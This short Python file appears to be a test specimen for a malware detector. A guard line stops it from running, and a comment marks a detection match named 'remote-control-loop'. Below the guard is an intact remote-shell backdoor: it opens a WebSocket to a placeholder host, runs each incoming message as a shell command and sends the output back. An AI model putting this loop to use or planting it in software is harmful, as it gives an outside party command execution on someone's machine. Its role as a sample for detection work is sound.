raise SystemExit("specimen: not to be run")
from os import popen as ask
import websocket as w

def told(line, text):
    line.send(ask(text).read())  # match: remote-control-loop

def begin():
    line = w.WebSocketApp("wss://example.com/x", on_message=told)
    line.run_forever()
